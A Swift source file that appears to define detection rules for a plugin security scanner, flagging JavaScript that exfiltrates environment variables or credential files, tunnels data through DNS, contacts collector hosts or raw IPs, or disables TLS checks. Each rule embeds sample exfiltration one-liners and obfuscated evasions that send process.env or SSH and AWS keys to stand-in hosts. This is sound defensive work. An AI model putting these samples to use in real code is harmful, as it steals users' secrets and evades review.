import BulkheadPolicy
import BulkheadSource
import BulkheadSyntax

extension Rules {
  /// What leaves the machine, and where it goes.
  static let network: [Rule] = [
    environmentExfiltration, credentialExfiltration, dnsExfiltration, credentialRead,
    environmentHarvest, collectorHost, rawAddress, tlsDisabled,
  ]

  /// What is given to the network, by call.
  private static func sent(_ facts: ScriptFacts) -> [(span: Span, data: [SyntaxNode])] {
    facts.calls.compactMap { call in
      if NetworkCalls.senders.contains(call.path ?? "") {
        return isLocal(call, facts) ? nil : (call.span, call.arguments)
      }
      // `request.write(data)`, `socket.send(data)` on what a sender gave.
      guard let callee = call.callee, callee.kind == .memberExpression,
        let method = facts.evaluator.key(of: callee), ["write", "end", "send"].contains(method),
        let object = callee.object, isConnection(object, facts)
      else { return nil }
      return (call.span, call.arguments)
    }
  }

  /// The address is one of this machine.
  private static func isLocal(_ call: ScriptFacts.Call, _ facts: ScriptFacts) -> Bool {
    guard let host = URLText(facts.evaluator.spelled(call.arguments.first))?.host.lowercased()
    else {
      return false
    }
    return ["localhost", "127.0.0.1", "::1", "0.0.0.0"].contains(host)
  }

  private static func isConnection(_ node: SyntaxNode, _ facts: ScriptFacts) -> Bool {
    var node = node
    for _ in 0..<8 {
      if node.kind == .callExpression || node.kind == .newExpression {
        return NetworkCalls.senders.contains(facts.evaluator.path(node.callee) ?? "")
      }
      guard node.kind == .identifier,
        case .expression(let origin)? = facts.evaluator.origins(of: node).first
      else { return false }
      node = origin
    }
    return false
  }

  static let environmentExfiltration = Rule(
    "exfiltrates-environment", .critical,
    title: "sends the whole environment to a server",
    why: "The environment holds the user's tokens for everything else.",
    help: "send only the variables that the service needs, and name them in permissions.env",
    positives: [
      "fetch('https://c.example.net', { method: 'POST', body: JSON.stringify(process.env) });"
    ],
    evasions: [
      "const body = JSON.stringify(process.env);\nfetch('https://collect.example.net/c', { method: 'POST', body });",
      "const e = process['en' + 'v']; const d = { ...e }; require('axios').post(u, d);",
      "const r = require('https').request(o); r.write(JSON.stringify(process.env)); r.end();",
      "fetch(u + '?' + new URLSearchParams(Object.entries(process.env)));",
      "let all = ''; for (const k in process.env) all += k; const { env } = process; fetch(u, { body: Buffer.from(JSON.stringify(env)).toString('base64') });",
    ],
    negatives: [
      "fetch(u, { headers: { Authorization: process.env.TOKEN } });",
      "spawn('x', { env: { ...process.env } });",
      "const c = require('child_process').spawn('x', { env: process.env }); fetch(u, { body: c.pid });",
      "fetch('http://localhost:8080/', { body: JSON.stringify(process.env) });",
      "const { PORT } = process.env; fetch('http://localhost:' + PORT);",
      "log(JSON.stringify(process.env.PATH));",
    ],
    check: .script { facts, report in
      for (span, data) in sent(facts) where facts.flows.sources(of: data).contains(.environment) {
        report.add(span)
      }
    })

  static let credentialExfiltration = Rule(
    "exfiltrates-credentials", .critical,
    title: "sends a file of credentials to a server",
    why: "Key files hold the user's access to everything else.",
    help: "remove it",
    positives: [
      "fetch(u, { method: 'POST', body: require('fs').readFileSync('/home/u/.ssh/id_rsa') });"
    ],
    evasions: [
      "const fs = require('fs'), os = require('os'), path = require('path'); const k = fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials')); fetch(u, { body: k.toString('base64') });",
      "const { readFile } = require('fs').promises; readFile(`${process.env.HOME}/.npmrc`).then(d => fetch(u, { body: d }));",
      "require('fs').readFile('/root/.netrc', (e, d) => { require('https').request(o).end(d); });",
    ],
    negatives: [
      "fetch(u, { body: require('fs').readFileSync('data.json') });", "fetch(u + '/.ssh/id_rsa');",
    ],
    check: .script { facts, report in
      for (span, data) in sent(facts) where facts.flows.sources(of: data).contains(.credentials) {
        report.add(span)
      }
    })

  static let dnsExfiltration = Rule(
    "exfiltrates-by-dns", .high,
    title: "puts data into host names that it looks up",
    why: "Every look-up reaches the server of the domain, past most firewalls.",
    help: "remove it",
    positives: ["require('dns').lookup(process.env.TOKEN + '.c.example.net', () => {});"],
    evasions: [
      "const d = require('dns').promises; const h = require('fs').readFileSync('x').toString('hex'); d.resolve(`${h}.c.example.net`);"
    ],
    negatives: [
      "require('dns').lookup('example.net', () => {});", "require('dns').lookup(host, () => {});",
      "require('dns').lookup(process.env.HOSTNAME, cb);",
    ],
    check: .script { facts, report in
      for call in facts.calls where NetworkCalls.names.contains(call.path ?? "") {
        guard let name = call.arguments.first else { continue }
        // A name that only is a variable is configuration; one with data in it ends in a domain.
        guard facts.evaluator.spelled(name).hasPrefix("\u{FFFC}."),
          facts.evaluator.spelled(name).count > 2
        else { continue }
        let flow = facts.flows.sources(of: name)
        if !flow.isDisjoint(with: [.environment, .variable, .credentials, .file]) {
          report.add(call.span)
        }
      }
    })

  static let credentialRead = Rule(
    "reads-credentials", .high,
    title: "reads a file of credentials",
    why: "A plugin needs the credentials it is given, not those of other programs.",
    help: "take credentials from an environment variable that is named in permissions.env",
    positives: ["require('fs').readFileSync('/home/u/.ssh/id_rsa');"],
    evasions: [
      "const p = '.ss' + 'h/id_ed25519'; require('fs').readFile(require('os').homedir() + '/' + p, cb);",
      "import { readFile } from 'node:fs/promises'; import { join } from 'path'; await readFile(join(home, '.aws', 'credentials'));",
      "require('fs').createReadStream(`${process.env.HOME}/.npmrc`);",
    ],
    negatives: [
      "require('fs').readFileSync('config.json');", "log('~/.ssh/id_rsa');",
      "const denied = ['.ssh', '.aws'];",
      "require('fs').readFileSync('docs/ssh.md');",
    ],
    check: .script { facts, report in
      for call in facts.calls where readers.contains(call.path ?? "") {
        let path = facts.evaluator.spelled(call.arguments.first)
        if SensitivePaths.isCredential(path) {
          report.add(call.span, path.replacing("\u{FFFC}", with: "…"))
        }
      }
    })

  private static let readers: Set<String> = [
    "module:fs.readFile", "module:fs.readFileSync", "module:fs.createReadStream", "module:fs.open",
    "module:fs.openSync", "module:fs.copyFile", "module:fs.copyFileSync", "module:fs.cp",
    "module:fs.cpSync",
  ]

  static let environmentHarvest = Rule(
    "environment-harvest", .medium,
    title: "turns the whole environment into text",
    why: "The environment holds tokens that the plugin has no use for.",
    help: "read the variables you need by name",
    positives: ["const s = JSON.stringify(process.env);"],
    evasions: [
      "const e = process['env']; save(JSON['stringify']({ ...e }));",
      "ref.push({ status: 'x', message: process.env });",
      "Object.entries(process.env).map(([k, v]) => k + v).join();",
    ],
    negatives: [
      "spawn('x', { env: { ...process.env } });", "JSON.stringify(process.env.PATH);",
      "Object.keys(environment);", "'X' in process.env;",
    ],
    check: .script { facts, report in
      let listers: Set<String> = [
        "JSON.stringify", "Object.entries", "Object.values", "module:util.inspect",
        "module:querystring.stringify",
      ]
      for call in facts.calls where listers.contains(call.path ?? "") {
        guard let argument = call.arguments.first else { continue }
        let spreads = argument.properties.compactMap(\.argument)
        if ([argument] + spreads).contains(where: { facts.evaluator.path($0) == "process.env" }) {
          report.add(call.span)
        }
      }
      // `{message: process.env}` as an argument; `{env: process.env}` starts a program.
      for node in facts.nodes(of: .property) where node.keyName != "env" {
        guard let value = node.value, facts.evaluator.path(value) == "process.env",
          node.parent?.parent?.kind == .callExpression
        else { continue }
        report.add(node.span)
      }
    })

  static let collectorHost = Rule(
    "network-collector-host", .high,
    title: "talks to a host that anybody uses to collect data",
    why: "Request collectors, tunnels and paste sites receive data without saying for whom.",
    help: "use a host of your own, and name it in permissions.network",
    positives: ["fetch('https://webhook.site/1234', { method: 'POST', body });"],
    evasions: [
      "const h = ['webhook', 'site'].join('.'); fetch(`https://${h}/x?d=${d}`);",
      "require('https').get('https://abc.oastify' + '.com/');",
      "require('https').request({ hostname: 'x.ngrok.io', path: '/' });",
    ],
    negatives: [
      "fetch('https://api.github.com/');", "log('https://webhook.site/');",
      "fetch('https://example.net/?u=webhook.site');",
    ],
    check: .script { facts, report in
      for (span, host) in hosts(facts) {
        if Collectors.contains(host) { report.add(span, host) }
      }
    })

  static let rawAddress = Rule(
    "network-raw-address", .medium,
    title: "talks to a bare network address",
    why: "Honest services have names; an address says nothing about who is behind it.",
    help: "use the name of the host",
    positives: ["fetch('http://198.51.100.7/x');"],
    evasions: [
      "fetch('http://0xC6336407/');", "fetch('http://' + [198, 51, 100, 7].join('.') + '/');",
    ],
    negatives: [
      "fetch('http://127.0.0.1:3000/');", "fetch('http://localhost/');",
      "fetch('https://api.example.net/1.2.3.4');",
    ],
    check: .script { facts, report in
      for call in facts.calls where NetworkCalls.senders.contains(call.path ?? "") {
        if URLText(facts.evaluator.spelled(call.arguments.first))?.isRawAddress == true {
          report.add(call.span)
        }
      }
    })

  /// The hosts of calls that send, from an address or from options.
  private static func hosts(_ facts: ScriptFacts) -> [(Span, String)] {
    facts.calls.filter { NetworkCalls.senders.contains($0.path ?? "") }.flatMap { call in
      call.arguments.prefix(2).compactMap { argument -> (Span, String)? in
        if case .object(let options) = facts.evaluator.value(argument) {
          let host =
            facts.evaluator.property("hostname", of: options)
            ?? facts.evaluator.property("host", of: options)
          return host.map { (call.span, facts.evaluator.spelled($0).lowercased()) }
        }
        return URLText(facts.evaluator.spelled(argument)).map { (call.span, $0.host.lowercased()) }
      }
    }
  }

  static let tlsDisabled = Rule(
    "tls-verification-disabled", .medium,
    title: "accepts any certificate",
    why: "Anybody on the way can read and change what is sent.",
    help: "leave the verification on, and add the certificate of a private authority with ca",
    positives: [
      "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';",
      "new https.Agent({ rejectUnauthorized: false });",
    ],
    evasions: [
      "process['env']['NODE_TLS_REJECT_' + 'UNAUTHORIZED'] = 0;",
      "const o = { ['reject' + 'Unauthorized']: !1 };",
    ],
    negatives: [
      "const o = { rejectUnauthorized: true };",
      "if (process.env.NODE_TLS_REJECT_UNAUTHORIZED === '0') warn();",
    ],
    check: .script { facts, report in
      for node in facts.nodes(of: .assignmentExpression)
      where facts.evaluator.path(node.left) == "process.env.NODE_TLS_REJECT_UNAUTHORIZED" {
        if facts.evaluator.value(node.right).string == "0" { report.add(node.span) }
      }
      for node in facts.nodes(of: .property) {
        let key = node.keyName ?? (node.isComputed ? facts.evaluator.value(node.key).string : nil)
        guard key == "rejectUnauthorized", let value = node.value else { continue }
        let isNot = value.kind == .unaryExpression && value.argument?.numberValue == 1
        if value.booleanValue == false || isNot { report.add(node.span) }
      }
    })
}
